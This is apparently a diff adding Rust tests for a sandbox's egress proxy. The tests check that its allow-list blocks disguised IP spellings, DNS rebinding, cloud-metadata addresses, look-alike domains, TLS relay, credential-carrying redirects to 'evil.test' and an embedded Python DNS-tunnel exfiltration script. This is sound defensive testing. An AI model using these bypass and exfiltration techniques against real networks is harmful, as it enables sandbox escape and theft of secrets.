@@ -1,0 +1,363 @@
+//! The way out: what is asked of the proxy, and what goes around it.
+//!
+//! Two walls stand behind each question: the list and the check of the address. Each is shown to hold alone: the list, while
+//! another rule lets the address pass; the check, while the list lets the name pass. Without both the attack gets through.
+
+use std::collections::HashMap;
+use std::io::{self, Read, Write};
+use std::net::{IpAddr, TcpListener};
+use std::process::Command;
+use std::sync::{Arc, Mutex, PoisonError};
+use std::time::Duration;
+
+use hotcell_egress::{Egress, Lookup, Resolver};
+use hotcell_sandbox::network::{Proxy, Serving, SharedProxy, Sockets};
+use hotcell_sandbox::outcome::Denial;
+use hotcell_sandbox::{Layer, Network, Outcome, Policy, danger::WeakensTheSandbox};
+
+use super::{Place, Said, check, good, io_error, run};
+use crate::arena::SECOND_ADDRESS;
+use crate::decoys::SECRET;
+use crate::engine;
+use crate::run::THROUGH;
+
+const PROGRAM: &str = include_str!("../../programs/through_proxy.py");
+/// [`SECOND_ADDRESS`], where the servers are.
+const ADDRESS: &str = "10.77.0.1";
+
+/// The proxy behind a sandbox's sockets, as the service has it.
+#[derive(Debug)]
+struct Way(Egress);
+
+struct Open(hotcell_egress::Serving);
+
+impl Proxy for Way {
+    fn serve(&self, sockets: Sockets) -> io::Result<Box<dyn Serving>> {
+        let Sockets { proxy, names, names_by_stream } = sockets;
+        let serving = self.0.serve(hotcell_egress::Sockets { proxy, names, names_by_stream })?;
+        Ok(Box::new(Open(serving)))
+    }
+}
+
+impl Serving for Open {
+    fn finish(self: Box<Self>) -> Vec<Denial> {
+        let rows = self.0.finish().into_iter();
+        let row = |d: hotcell_egress::Denied| Denial {
+            layer: "network".to_owned(),
+            operation: d.operation.name().to_owned(),
+            target: d.target,
+            errno: String::new(),
+            count: d.count,
+        };
+        rows.map(row).collect()
+    }
+}
+
+/// Names with what they lead to, answer by answer; whoever is asked remembers for what.
+#[derive(Clone, Debug, Default)]
+struct Names {
+    answers: Arc<Mutex<HashMap<String, Vec<Vec<IpAddr>>>>>,
+    asked: Arc<Mutex<Vec<String>>>,
+}
+
+impl Names {
+    fn lead(self, name: &str, answers: &[&str]) -> Self {
+        let answers = answers.iter().map(|a| a.split(' ').filter_map(|a| a.parse().ok()).collect()).collect();
+        self.answers.lock().unwrap_or_else(PoisonError::into_inner).insert(name.to_owned(), answers);
+        self
+    }
+
+    fn asked(&self) -> Vec<String> {
+        self.asked.lock().unwrap_or_else(PoisonError::into_inner).clone()
+    }
+}
+
+impl Resolver for Names {
+    fn resolve<'a>(&'a self, name: &'a str) -> Lookup<'a> {
+        self.asked.lock().unwrap_or_else(PoisonError::into_inner).push(name.to_owned());
+        let mut names = self.answers.lock().unwrap_or_else(PoisonError::into_inner);
+        // Whatever is not known leads where an attacker wants it.
+        let answer = match names.get_mut(name) {
+            Some(answers) if answers.len() > 1 => answers.remove(0),
+            Some(answers) => answers[0].clone(),
+            None => ADDRESS.parse().into_iter().collect(),
+        };
+        Box::pin(async move { Ok(answer) })
+    }
+}
+
+/// A web server beyond the sandbox, and what it was sent.
+struct Server {
+    port: u16,
+    heard: Arc<Mutex<String>>,
+}
+
+fn server(answer: impl Fn(&str) -> String + Send + 'static) -> Result<Server, String> {
+    let listener = TcpListener::bind((SECOND_ADDRESS, 0)).map_err(io_error)?;
+    let port = listener.local_addr().map_err(io_error)?.port();
+    let heard = Arc::new(Mutex::new(String::new()));
+    let log = Arc::clone(&heard);
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
+            let mut bytes = [0; 4096];
+            // The first piece is a whole request, or a first message of TLS.
+            let length = stream.read(&mut bytes).unwrap_or(0);
+            let text = String::from_utf8_lossy(&bytes[..length]).into_owned();
+            let _ = stream.write_all(answer(&text).as_bytes());
+            log.lock().unwrap_or_else(PoisonError::into_inner).push_str(&text);
+        }
+    });
+    Ok(Server { port, heard })
+}
+
+fn secret(_: &str) -> String {
+    format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{SECRET}", SECRET.len())
+}
+
+fn python(program: &str, arguments: &[&str]) -> Policy {
+    Policy::new("/usr/bin/python3").args(["-c", program]).args(arguments.iter().copied())
+}
+
+fn way(rules: &str, names: &Names) -> Result<SharedProxy, String> {
+    let list = rules.parse().map_err(|e| format!("{rules}: {e}"))?;
+    Ok(SharedProxy::new(Way(Egress::new(list).resolver(names.clone()))))
+}
+
+/// Asks for these hosts; whether one was reached.
+fn reached(rules: &str, names: &Names, port: u16, hosts: &[&str]) -> Result<(bool, Outcome), String> {
+    let port = port.to_string();
+    let arguments = [&[port.as_str()], hosts].concat();
+    let (outcome, _) = run(&python(PROGRAM, &arguments).proxy(way(rules, names)?))?;
+    match outcome.exit_code {
+        Some(0) => Ok((false, outcome)),
+        Some(THROUGH) => Ok((true, outcome)),
+        code => Err(format!("{code:?}: {:?}", outcome.stderr)),
+    }
+}
+
+/// Each of the settings, with whether the attack gets through; `PORT` in rules stands for the port.
+fn expect(names: &Names, port: u16, hosts: &[&str], settings: &[(&str, bool)]) -> Result<(), String> {
+    for (rules, through) in settings {
+        let rules = rules.replace("PORT", &port.to_string());
+        let (got, outcome) = reached(&rules, names, port, hosts)?;
+        let said = || {
+            let text = String::from_utf8_lossy(&outcome.stdout.to_bytes()).into_owned();
+            format!("with {rules:?}: reached {got}: {text}")
+        };
+        check(got == *through, said)?;
+        check(*through || !outcome.denials.is_empty(), || format!("with {rules:?}: no denial is told"))?;
+    }
+    Ok(())
+}
+
+pub(super) fn spellings(_: &Place<'_>) -> Result<Said, String> {
+    let server = server(secret)?;
+    let names = Names::default()
+        .lead("mapped.test.org", &["::ffff:10.77.0.1"])
+        .lead("compatible.test.org", &["::10.77.0.1"])
+        .lead("translated.test.org", &["64:ff9b::a4d:1 64:ff9b:1::a4d:1 2002:a4d:1::1"])
+        .lead("zero.test.org", &["0.0.0.0 ::"]);
+    let spelled = [
+        "0x0a4d0001",
+        "0xa.0x4d.0.1",
+        "172818433",
+        "012.0115.0.1",
+        "10.77.1",
+        "10.77.0.1.",
+        "[::ffff:10.77.0.1]",
+        "::ffff:a4d:1",
+        "[64:ff9b::a4d:1]",
+        "0.0.0.0",
+        "127.0.0.1",
+        "127.1",
+        "[::1]",
+        "[::]",
+        "localhost",
+    ];
+    // The list alone: the address is allowed, by another name.
+    expect(&names, server.port, &spelled, &[("", false), ("other.test=10.77.0.1:PORT", false)])?;
+    // The check alone.
+    let led = ["mapped.test.org", "compatible.test.org", "translated.test.org", "zero.test.org"];
+    expect(&names, server.port, &led, &[("*.test.org:PORT", false)])?;
+    expect(&names, server.port, &["10.77.0.1"], &[("10.77.0.1:PORT", true)])?;
+    good(format!("{} spellings and 4 answers in disguise", spelled.len()))
+}
+
+pub(super) fn rebinding(_: &Place<'_>) -> Result<Said, String> {
+    let server = server(secret)?;
+    let names = Names::default()
+        .lead("twice.test", &["192.0.2.1", ADDRESS])
+        .lead("private.test", &[ADDRESS])
+        .lead("metadata.test", &["169.254.169.254 fd00:ec2::254 100.100.100.200"])
+        .lead("host.test", &["127.0.0.1 ::1"]);
+    let hosts = ["twice.test", "private.test", "metadata.test", "host.test"];
+    let all = "twice.test:PORT,private.test:PORT,metadata.test:PORT,host.test:PORT";
+    expect(&names, server.port, &hosts, &[(all, false), ("other.test=10.77.0.1:PORT", false)])?;
+    expect(&names, server.port, &["private.test"], &[("private.test=10.77.0.1:PORT", true)])?;
+    good("a name that leads elsewhere is not followed; the list and the check hold it alone")
+}
+
+pub(super) fn suffixes(_: &Place<'_>) -> Result<Said, String> {
+    let server = server(secret)?;
+    let names = Names::default();
+    let hosts = [
+        "good.test.org.evil",
+        "evilgood.test.org",
+        "evil.good.test.org",
+        "eviltest.net",
+        "x.test.net.evil",
+        "test.net",
+        "good.test.org\\x00.evil",
+        "evil\\x00.good.test.org",
+        "good.test.org@evil",
+        "evil@good.test.org",
+        "good%2etest.org",
+        "good.test.org#",
+        "good.test.org\\\\.evil",
+    ];
+    let list = "good.test.org=10.77.0.1:PORT,*.test.net:PORT";
+    expect(&names, server.port, &hosts, &[(list, false)])?;
+    check(names.asked().is_empty(), || format!("these were looked up: {:?}", names.asked()))?;
+    expect(&names, server.port, &["GOOD.Test.org."], &[(list, true)])?;
+    // The check alone: every one of these leads to a private address.
+    expect(
+        &names,
+        server.port,
+        &["evilgood.test.org", "eviltest.net"],
+        &[("evilgood.test.org:PORT,eviltest.net:PORT", false)],
+    )?;
+    good(format!("{} names that look like an allowed one", hosts.len()))
+}
+
+pub(super) fn empty_list(_: &Place<'_>) -> Result<Said, String> {
+    let server = server(secret)?;
+    expect(&Names::default(), server.port, &["10.77.0.1", "good.test", "direct:10.77.0.1"], &[("", false)])?;
+    expect(&Names::default(), server.port, &["10.77.0.1"], &[("10.77.0.1:PORT", true)])?;
+    good("nothing is reached")
+}
+
+pub(super) fn relay(_: &Place<'_>) -> Result<Said, String> {
+    let server = server(secret)?;
+    let list = [("good.test=10.77.0.1:PORT", false)];
+    let names = Names::default();
+    expect(&names, server.port, &["tls:good.test:evil.test", "tls:good.test:good.test.evil"], &list)?;
+    check(server.heard.lock().is_ok_and(|h| h.is_empty()), || "the server was sent something".to_owned())?;
+    expect(&names, server.port, &["tls:good.test:good.test"], &[("good.test=10.77.0.1:PORT", true)])?;
+    good("TLS with another server than the connection's gets no byte out")
+}
+
+pub(super) fn redirect(_: &Place<'_>) -> Result<Said, String> {
+    const FOLLOW: &str = "import sys,urllib.request,urllib.error\n\
+        r=urllib.request.Request(sys.argv[1],headers={'Authorization':'Bearer KEY','Proxy-Authorization':'KEY2'})\n\
+        try: print(urllib.request.urlopen(r,timeout=10).read())\n\
+        except urllib.error.HTTPError as e: print(e.code)";
+    let evil = server(secret)?;
+    let to = format!("http://evil.test:{}/", evil.port);
+    let good_server = server(move |_| {
+        format!("HTTP/1.1 302 Found\r\nLocation: {to}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")
+    })?;
+    let url = format!("http://good.test:{}/", good_server.port);
+    for (more, through) in [(String::new(), false), (format!(",evil.test=10.77.0.1:{}", evil.port), true)] {
+        let rules = format!("good.test=10.77.0.1:{}{more}", good_server.port);
+        let (outcome, _) = run(&python(FOLLOW, &[&url]).proxy(way(&rules, &Names::default())?))?;
+        let heard = evil.heard.lock().map(|h| h.clone()).unwrap_or_default();
+        // Shown to be an attack: this client takes its key along.
+        check(heard.contains("Bearer KEY") == through, || {
+            format!("{through}: {heard:?} {:?}", outcome.stdout)
+        })?;
+        check(!heard.contains("KEY2"), || format!("the proxy's own credential was sent on: {heard}"))?;
+    }
+    good("a redirect to a host that is not allowed carries nothing there")
+}
+
+pub(super) fn names(_: &Place<'_>) -> Result<Said, String> {
+    const TUNNEL: &str = r"
+import socket, sys
+def ask(labels, kind, stream):
+    question = b'\1\2\1\0\0\1\0\0\0\0\0\0' + b''.join(bytes([len(l)]) + l for l in labels) + b'\0\0' + bytes([kind, 0, 1])
+    try:
+        if stream:
+            with socket.create_connection(('127.0.0.1', 53), 5) as s:
+                s.sendall(len(question).to_bytes(2, 'big') + question)
+                return s.recv(600)
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.settimeout(5)
+        s.sendto(question, ('127.0.0.1', 53))
+        return s.recv(600)
+    except OSError:
+        return b''
+zone = [l.encode() for l in sys.argv[1].split('.')]
+for stream in (False, True):
+    for labels in ([b'secret'], [b's' * 60, b't' * 60], [b'secret.evil'], [b'secret\0']):
+        for kind in (1, 28, 16, 255, 15, 10):
+            ask(labels + zone, kind, stream)
+";
+    let list = "good.test.org:443,*.data.test.org:443";
+    let asked = |zone: &str| -> Result<(Vec<String>, Outcome), String> {
+        let names = Names::default();
+        let (outcome, _) = run(&python(TUNNEL, &[zone]).proxy(way(list, &names)?))?;
+        check(outcome.success(), || format!("{:?}", outcome.stderr))?;
+        Ok((names.asked(), outcome))
+    };
+    let (told, outcome) = asked("evil.test.org")?;
+    check(told.is_empty(), || format!("the world was asked for {told:?}"))?;
+    check(outcome.denials.iter().any(|d| d.operation == "dns"), || "no denial is told".to_owned())?;
+    // Below an allowed suffix: by address only, one short name. That is what a suffix gives away.
+    let (told, _) = asked("data.test.org")?;
+    check(told.iter().all(|name| name == "secret.data.test.org") && !told.is_empty(), || {
+        format!("the world was asked for {told:?}")
+    })?;
+    good("names of other zones, other types and long labels are asked of nobody")
+}
+
+pub(super) fn nobody_serves(_: &Place<'_>) -> Result<Said, String> {
+    let server = server(secret)?;
+    let port = server.port.to_string();
+    let mut policy = python(PROGRAM, &[&port, "10.77.0.1", "good.test", "direct:10.77.0.1"]);
+    policy.shape.network = Network::Proxy;
+    let (outcome, _) = run(&policy)?;
+    check(outcome.success(), || format!("{:?} {:?}", outcome.exit_code, outcome.stdout))?;
+    expect(&Names::default(), server.port, &["10.77.0.1"], &[("10.77.0.1:PORT", true)])?;
+    good("without a proxy nothing is reached")
+}
+
+pub(super) fn one_list_a_run(_: &Place<'_>) -> Result<Said, String> {
+    let server = server(secret)?;
+    let port = server.port.to_string();
+    let names = Names::default();
+    let narrow = way("other.test:1", &names)?;
+    let wide = way(&format!("10.77.0.1:{port}"), &names)?;
+    let ask = |proxy: &SharedProxy| python(PROGRAM, &[&port, "10.77.0.1"]).proxy(proxy.clone());
+    // One after the other and at the same time, in one engine: nobody gets another's list.
+    let (first, second) = (ask(&narrow), ask(&wide));
+    let both =
+        engine::block_on(async { tokio::join!(hotcell_sandbox::run(&first), hotcell_sandbox::run(&second)) });
+    let (one, two) = both.map_err(io_error)?;
+    let codes = (one.exit_code, two.exit_code, run(&first)?.0.exit_code);
+    check(codes == (Some(0), Some(THROUGH), Some(0)), || format!("{codes:?}"))?;
+    good("a run keeps the list with which it began")
+}
+
+pub(super) fn around_the_proxy(_: &Place<'_>) -> Result<Said, String> {
+    let server = server(secret)?;
+    let (port, names) = (server.port.to_string(), Names::default());
+    let hosts = ["direct:10.77.0.1", "direct:good.test"];
+    let rules = format!("good.test=10.77.0.1:{port},10.77.0.1:{port}");
+    let (got, outcome) = reached(&rules, &names, server.port, &hosts)?;
+    check(!got, || "it was reached without the proxy".to_owned())?;
+    let row =
+        outcome.denials.iter().find(|d| d.operation == "connect" && d.target == format!("{ADDRESS}:{port}"));
+    check(row.is_some(), || format!("no denial is told: {:?}", outcome.denials))?;
+    // Without the network namespace there is no such sandbox.
+    let without = python(PROGRAM, &[&port, hosts[0]])
+        .proxy(way(&rules, &names)?)
+        .without_layer(Layer::NetNs, WeakensTheSandbox);
+    let refused = engine::outcome(&without).map_err(io_error)?;
+    check(refused.cause == hotcell_sandbox::Cause::Refused, || format!("{:?}", refused.cause))?;
+    // It is an attack: whoever has the host's network gets through.
+    let bare =
+        Command::new("/usr/bin/python3").args(["-c", PROGRAM, &port, hosts[0]]).status().map_err(io_error)?;
+    check(bare.code() == Some(THROUGH), || "bare, it does not get through".to_owned())?;
+    good("a client that knows of no proxy reaches nothing, and that is told")
+}
